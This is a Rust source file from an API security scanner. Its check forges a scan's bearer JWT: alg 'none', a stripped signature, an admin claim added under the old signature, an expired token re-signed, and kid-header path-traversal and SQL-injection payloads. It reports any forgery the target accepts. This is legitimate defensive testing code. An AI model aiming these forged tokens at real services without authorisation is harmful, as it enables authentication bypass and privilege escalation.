//! jwt_forgery: the scan's bearer JWT (from `--bearer`, or the token
//! `--login` obtained) rewritten the ways a careless verifier accepts:
//! `alg: none`, the signature stripped, claims changed under the old
//! signature, an expired token (signed anew when weak_jwt_secret cracked the
//! secret: the scan's one cracking path, jwt_crack), and a `kid` header that points the key lookup at
//! `/dev/null` or injects SQL. Judged only where the real token succeeds and
//! no token is refused, so a 2xx for a forged token means it was accepted.

use std::time::{SystemTime, UNIX_EPOCH};

use futures_util::future::BoxFuture;
use serde_json::{Value, json};

use super::credentials::{bearer_jwt, refusal, success};
use super::{ActiveProbe, Stage};
use super::{Identity, Session};
use crate::checks::check::{Check, How, Owasp, Scope, Severity};
use crate::checks::jwt::{self, Jwt};
use crate::checks::{ProofItem, Verdict};
use crate::identity::Credential;
use crate::model::{Api, Operation};
use crate::probes::Profile;

/// The `jwt_forgery` check.
pub(in crate::checks) const CHECK: Check = Check {
    name: "jwt_forgery",
    severity: Severity::Critical,
    cwe: Some(347),
    owasp: Some(Owasp::Api2),
    summary: "A forged JWT (alg none, signature stripped, claims changed under the old signature, expired, kid injection) was accepted where no token is refused.",
    scope: Scope::Target,
    how: How::Probe(ActiveProbe {
        stage: Stage::Authentication,
        applies,
        run,
    }),
};

pub(super) fn applies(_: &Api, op: &Operation, _: Profile) -> bool {
    !op.is_public()
}

/// One way of forging: its signature, its title, and the tokens to try in
/// turn (the first accepted one is the proof).
struct Forgery {
    name: &'static str,
    title: &'static str,
    tokens: Vec<String>,
}

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
        .unwrap_or(0)
}

/// Every forgery of `token`; `secret` is its signing key when the wordlist
/// found it (an expired token must carry a valid signature to test `exp`).
fn forgeries(token: &Jwt, secret: Option<&str>) -> Vec<Forgery> {
    let claims = &token.claims;
    let mut out = Vec::new();
    out.push(Forgery {
        name: "alg_none",
        title: "A JWT with alg \"none\" and no signature was accepted",
        tokens: ["none", "None", "NONE", "nOnE"]
            .iter()
            .map(|alg| {
                let mut header = token.header.clone();
                header["alg"] = json!(alg);
                jwt::encode(&header, claims, None)
            })
            .collect(),
    });
    out.push(Forgery {
        name: "signature_stripped",
        title: "A JWT with its signature removed was accepted",
        tokens: vec![format!("{}.{}.", token.header_b64, token.payload_b64)],
    });
    let mut tampered = claims.clone();
    if let Some(map) = tampered.as_object_mut() {
        match map.get("role") {
            Some(Value::String(_)) => {
                map.insert("role".into(), json!("admin"));
            }
            _ => {
                map.insert("admin".into(), json!(true));
            }
        }
        if let Some(exp) = map.get("exp").and_then(Value::as_i64) {
            map.insert("exp".into(), json!(exp + 86_400));
        }
    }
    out.push(Forgery {
        name: "claims_tampered",
        title: "A JWT whose claims were changed under the old signature was accepted",
        tokens: vec![format!(
            "{}.{}.{}",
            token.header_b64,
            jwt::b64(tampered.to_string().as_bytes()),
            token.signature_b64
        )],
    });
    if let Some(secret) = secret {
        let mut expired = claims.clone();
        if let Some(map) = expired.as_object_mut() {
            map.insert("exp".into(), json!(now() - 3_600));
            map.insert("iat".into(), json!(now() - 7_200));
        }
        out.push(Forgery {
            name: "expired",
            title: "An expired JWT (validly signed) was accepted",
            tokens: vec![jwt::encode(
                &token.header,
                &expired,
                Some(secret.as_bytes()),
            )],
        });
    }
    let kid = |kid: &str, key: &[u8]| {
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
        jwt::encode(&header, claims, Some(key))
    };
    out.push(Forgery {
        name: "kid_injection",
        title: "A JWT whose kid header injects the verification key was accepted",
        tokens: vec![
            kid("../../../../../../../../../dev/null", b""),
            kid("apiprobe' UNION SELECT 'apiprobe' -- ", b"apiprobe"),
        ],
    });
    out
}

fn status_text(status: Option<u16>) -> String {
    status.map_or_else(|| "no response".to_owned(), |s| s.to_string())
}

pub(super) fn run<'s>(s: &'s mut Session<'_>) -> BoxFuture<'s, ()> {
    Box::pin(async move {
        let Some((raw, others)) = bearer_jwt(s.credentials()) else {
            return;
        };
        let Some(token) = Jwt::parse(&raw) else {
            return;
        };
        let request = s.base_request().clone();
        let Some(baseline) = s.send(&request).await else {
            return;
        };
        let baseline_status = baseline.response().map(|r| r.status);
        if !success(baseline_status) {
            return;
        }
        // a token is only tested where having none is refused
        let Some(anonymous) = s.send_as(&request, &Identity::With(others.clone())).await else {
            return;
        };
        let anonymous_status = anonymous.response().map(|r| r.status);
        if !refusal(anonymous_status) {
            return;
        }
        // the secret weak_jwt_secret cracked (jwt_crack), if it did
        let secret = s.port().jwt_secret(&raw);
        for forgery in forgeries(&token, secret.as_deref()) {
            for forged in &forgery.tokens {
                let mut credentials = others.clone();
                credentials.push(Credential::bearer(forged));
                let Some(exchange) = s.send_as(&request, &Identity::With(credentials)).await else {
                    return;
                };
                let status = exchange.response().map(|r| r.status);
                if !success(status) {
                    continue;
                }
                let header = Jwt::parse(forged)
                    .map(|t| t.header.to_string())
                    .unwrap_or_default();
                let verdict = Verdict {
                    title: forgery.title.to_owned(),
                    evidence: format!(
                        "the real token: {}; no token: {}; the forged token (header {header}): {}",
                        status_text(baseline_status),
                        status_text(anonymous_status),
                        status_text(status)
                    ),
                    signature: forgery.name.to_owned(),
                    proof: vec![
                        ProofItem::new("forgery", forgery.name),
                        ProofItem::new("forged_token", forged.clone()),
                        ProofItem::new("forged_header", header),
                        ProofItem::new("real_token_status", status_text(baseline_status)),
                        ProofItem::new("no_token_status", status_text(anonymous_status)),
                        ProofItem::new("forged_token_status", status_text(status)),
                    ],
                    ..Verdict::default()
                };
                s.report(verdict, &exchange);
                break;
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forgeries_change_what_they_say() {
        let real = jwt::encode(
            &json!({"alg": "HS256", "typ": "JWT"}),
            &json!({"sub": "alice", "role": "user", "exp": 2_000_000_000}),
            Some(b"secret"),
        );
        let token = Jwt::parse(&real).unwrap();
        let all = forgeries(&token, Some("secret"));
        let names: Vec<&str> = all.iter().map(|f| f.name).collect();
        assert_eq!(
            names,
            [
                "alg_none",
                "signature_stripped",
                "claims_tampered",
                "expired",
                "kid_injection"
            ]
        );
        let none = Jwt::parse(&all[0].tokens[0]).unwrap();
        assert_eq!(none.alg(), "none");
        assert!(none.signature_b64.is_empty());
        let tampered = Jwt::parse(&all[2].tokens[0]).unwrap();
        assert_eq!(tampered.claim("role").as_deref(), Some("admin"));
        assert_eq!(tampered.signature_b64, token.signature_b64);
        assert!(!tampered.verifies_with(b"secret"));
        let expired = Jwt::parse(&all[3].tokens[0]).unwrap();
        assert!(expired.verifies_with(b"secret"));
        assert!(expired.claims["exp"].as_i64().unwrap() < now());
        let kid = Jwt::parse(&all[4].tokens[0]).unwrap();
        assert!(kid.verifies_with(b""));
        assert!(kid.header["kid"].as_str().unwrap().contains("dev/null"));
        // without the secret there is no honest expired token to send
        assert!(forgeries(&token, None).iter().all(|f| f.name != "expired"));
    }
}
